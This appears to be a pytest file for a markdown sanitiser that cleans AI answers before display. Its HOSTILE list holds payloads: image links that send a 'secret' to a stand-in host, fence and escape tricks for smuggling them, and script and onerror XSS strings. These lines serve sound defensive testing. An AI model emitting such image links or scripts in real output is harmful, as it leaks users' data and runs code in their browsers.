import re

import pytest
from markdown_it import MarkdownIt

from engine.export.harmless import WORD_JOINER, plain, safe_markdown

HOSTILE = [
    "![a](https://evil.example/?q=secret)",
    "![a][1]\n\n[1]: https://evil.example/x.png",
    "[click](https://evil.example) and <https://evil.example>",
    "<img src=x onerror=alert(1)> <script>alert(1)</script> <!-- x -->",
    "`a\n\n![x](https://evil.example)\n\n`",
    "- a\n  ```\n![x](https://evil.example)\n",
    "- ```\n![x](https://evil.example)",
    "> ```\n![x](https://evil.example)",
    "| `a | ![x](https://evil.example) | b` |\n|---|---|---|\n| `c | ![x](https://evil.example) | d` |",
    "\\\\![x](https://evil.example) \\\\[x\\\\](https://evil.example)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](<https://evil.example/a b.png> 'title')",
    "[a\nb](https://evil.example)",
    "\\`![x](https://evil.example)`",
    "```mermaid\ngraph TD; A-->B\n```",
    "~~~\n```\n~~~\n![x](https://evil.example)",
    "``` a`b\n![x](https://evil.example)",
    "[1](https://evil.example) ![1](https://evil.example)",
]


def tokens(markdown: str) -> list[str]:
    parsed = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    return [item.type for token in parsed for item in (token, *(token.children or ()))]


def shown(markdown: str) -> str:
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    text = re.sub(r"<[^>]*>", "", html).replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
    return text.replace("&amp;", "&").replace(WORD_JOINER, "").strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_loads_links_or_runs_survives_in_an_answer(text):
    found = tokens(safe_markdown(text))
    assert not {"image", "link_open", "html_inline", "html_block"} & set(found)
    assert "mermaid" not in safe_markdown(text).split("\n")[0]


@pytest.mark.parametrize("text", [*HOSTILE, "a *b* _c_ `d` [e] <f> $5 ~g~ 1. x # h", "C:\\dir\\file_1.pdf"])
def test_plain_text_is_shown_as_it_stands(text):
    assert shown(plain(text)) == " ".join(text.split())
    assert set(tokens(plain(text))) <= {"paragraph_open", "inline", "text", "paragraph_close", "text_special"}


def test_an_answer_keeps_its_formatting_and_its_citation_marks():
    answer = "**Revenue** grew [1][2].\n\n- a `x[0]`\n- b\n\n| Metric | Value |\n|---|---|\n| Price | $5 |\n"
    safe = safe_markdown(answer)
    assert "[1][2]" in safe and "`x[0]`" in safe
    assert {"strong_open", "bullet_list_open", "table_open", "code_inline"} <= set(tokens(safe))


def test_dollars_and_tildes_are_not_formatting():
    assert safe_markdown("$5 and $6, 3~5 or 6~7") == r"\$5 and \$6, 3\~5 or 6\~7"


def test_an_address_in_an_answer_is_shown_as_code():
    assert "`https://evil.example/?q=1`" in safe_markdown("See https://evil.example/?q=1, please")


@pytest.mark.parametrize("text", [":material/delete: x", ":tada:", ":red[danger]", ":streamlit:", "1:100:2"])
def test_short_codes_lose_their_meaning(text):
    for safe in (plain(text), safe_markdown(text)):
        assert not re.search(r"(?<!\\):[\w+/-]+:", safe)
        assert ":red[" not in safe


def test_a_heading_in_an_answer_stays_small():
    assert safe_markdown("# Big") == "##### Big"


def test_an_unclosed_fence_of_a_streaming_answer_is_closed():
    assert safe_markdown("```python\nx = 1").endswith("\n```")
